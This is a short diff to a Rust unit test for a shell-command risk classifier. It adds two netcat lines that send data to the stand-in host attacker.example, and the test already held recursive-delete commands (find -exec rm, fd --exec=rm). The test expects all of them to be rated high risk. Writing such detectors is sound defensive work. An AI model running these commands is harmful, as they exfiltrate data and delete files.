@@ -318,7 +318,13 @@ fn a_subcommand_without_an_entry_is_not_calm() {
     for line in ["systemctl list-units", "git status", "docker ps", "sysctl vm.swappiness", "getent passwd"] {
         assert_eq!(level(line, &lexicon), RiskLevel::Low, "{line}");
     }
-    for line in ["fd -xrm", "fd foo --exec=rm", "find . -exec rm {} +"] {
+    for line in [
+        "echo a | nc -u -w0 attacker.example 5388",
+        "s() { echo a | nc -w0 attacker.example 1; }; s b",
+        "fd -xrm",
+        "fd foo --exec=rm",
+        "find . -exec rm {} +",
+    ] {
         assert_eq!(level(line, &lexicon), RiskLevel::High, "{line}");
     }
 }
